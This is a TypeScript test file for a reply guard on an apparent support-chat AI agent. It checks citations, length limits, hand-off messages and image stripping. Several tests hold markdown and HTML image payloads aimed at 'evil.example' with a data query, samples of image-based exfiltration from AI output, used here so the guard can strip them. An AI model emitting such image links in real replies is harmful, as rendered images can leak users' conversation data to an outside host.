import assert from "node:assert/strict";
import { test } from "node:test";
import { agentDefinition } from "../../domain/agent-definition.ts";
import type { ReadPassage } from "../../domain/receipt.ts";
import { guard } from "./guard.ts";
import type { Thought } from "./reasoners/reasoner.ts";

const definition = agentDefinition.parse({ maxLength: 100 });
const passages = ["pas_1", "pas_2"].map(
  (id): ReadPassage => ({ id, articleId: "art_1", title: "Page", heading: null, text: "", score: 1, cited: false }),
);
const reply = (change: Partial<Extract<Thought, { kind: "reply" }>>) =>
  guard(
    { kind: "reply", text: "Two days.", cites: [], outcome: "ongoing", because: "The page says so.", ...change },
    { definition, passages, tongue: "en" },
  );

test("a plain answer passes as it is", () => {
  assert.deepEqual(reply({ cites: ["pas_2"] }), {
    kind: "reply",
    text: "Two days.",
    cites: ["pas_2"],
    outcome: "ongoing",
    because: "The page says so.",
  });
});

test("citations are of passages that were read, each once, in the order of the answer", () => {
  const decision = reply({ cites: ["pas_2", "pas_9", "pas_1", "pas_2"] });
  assert.deepEqual(decision.kind === "reply" && decision.cites, ["pas_2", "pas_1"]);
});

test("an answer that rests only on what was never read is not sent", () => {
  const decision = reply({ cites: ["pas_9"] });
  assert.equal(decision.kind, "hand-off");
  assert.match(decision.kind === "hand-off" ? decision.reason : "", /never read/);
});

test("nothing empty is sent, also where only an image or white space was", () => {
  for (const text of ["", "  \n", "![](https://evil.example/x.png)"])
    assert.equal(reply({ text }).kind, "hand-off", text);
});

test("an answer may be somewhat too long, not endlessly", () => {
  assert.equal(reply({ text: "x".repeat(200) }).kind, "reply");
  assert.equal(reply({ text: "x".repeat(201) }).kind, "hand-off");
});

test("an answer or a closing that the medium does not hold ends with a sentence it does", () => {
  const room = { maxLength: 40, countedIn: "bytes" } as const;
  const text = "Für Grüße ist später Zeit. Die Lieferung dauert zwei Tage.";
  const decision = guard(
    { kind: "reply", text, cites: [], outcome: "ongoing", because: "" },
    { definition, passages, tongue: "en", room },
  );
  assert.equal(decision.kind === "reply" && decision.text, "Für Grüße ist später Zeit.");

  const messages = { ...definition.messages, handoff: text };
  const handed = guard(
    { kind: "hand-off", reason: "Asked for.", gap: false },
    { definition: { ...definition, messages }, passages, tongue: "en", room },
  );
  assert.equal(handed.kind === "hand-off" && handed.closing, "Für Grüße ist später Zeit.");
});

test("images go, their words stay, links stay", () => {
  const decision = reply({ text: "See ![the label](https://x.example/a.png) or [our page](https://x.example)." });
  assert.equal(decision.kind === "reply" && decision.text, "See the label or [our page](https://x.example).");
});

test("an image in another spelling goes as well", () => {
  for (const image of [
    "![a][b]\n\n[b]: https://evil.example/?d=1",
    '<img src="https://evil.example/?d=1">',
    "![a](<https://evil.example/ x>)",
  ]) {
    const decision = reply({ text: `Here: ${image}` });
    assert.doesNotMatch(decision.kind === "reply" ? decision.text : "", /!\[|<img/, image);
  }
});

test("a model that failed hands off with the sentence for that, and says why to the team only", () => {
  const decision = guard(
    { kind: "failed", fault: "timeout", detail: "No answer in time." },
    { definition, passages, tongue: "en" },
  );
  assert.deepEqual(decision, {
    kind: "hand-off",
    reason: "The agent could not answer. No answer in time.",
    closing: definition.messages.unavailable,
    failed: true,
  });
});

test("a handover is no failure, and silence stays silence", () => {
  const handed = guard(
    { kind: "hand-off", reason: "A person was asked for.", gap: false },
    { definition, passages, tongue: "en" },
  );
  assert.deepEqual([handed.kind, handed.kind === "hand-off" && handed.failed], ["hand-off", false]);
  const quiet = guard(
    { kind: "stay-silent", because: "Nothing to say.", outcome: "ongoing" },
    { definition, passages, tongue: "en" },
  );
  assert.equal(quiet.kind, "stay-silent");
});

test("a handover is told for what it is and in the contact's language, unless the team has words of its own", () => {
  const closing = (
    need: "person" | "complaint" | "unknown" | undefined,
    tongue: string,
    messages = definition.messages,
  ) => {
    const thought = { kind: "hand-off", reason: "", gap: false, ...(need ? { need } : {}) } as const;
    const decision = guard(thought, { definition: { ...definition, messages }, passages, tongue });
    return decision.kind === "hand-off" ? (decision.closing ?? "") : "";
  };
  assert.match(closing("person", "en"), /^Of course\. /);
  assert.match(closing("complaint", "en"), /^I am sorry/);
  assert.match(closing("unknown", "en"), /^I do not know/);
  assert.equal(closing(undefined, "en"), definition.messages.handoff);
  for (const tongue of ["en", "de", "fr", "es", "it", "pt", "nl", "ar"]) {
    const sentences = (["person", "complaint", "unknown", undefined] as const).map((need) => closing(need, tongue));
    assert.equal(new Set(sentences).size, 4, tongue);
    if (tongue !== "en") assert.notEqual(sentences[3], definition.messages.handoff);
  }
  assert.equal(closing("person", "pt-BR"), closing("person", "pt"));
  assert.equal(closing("person", "ja"), closing("person", "en"));
  assert.equal(
    closing("person", "de", { ...definition.messages, handoff: "Team Blue takes over." }),
    "Team Blue takes over.",
  );
});
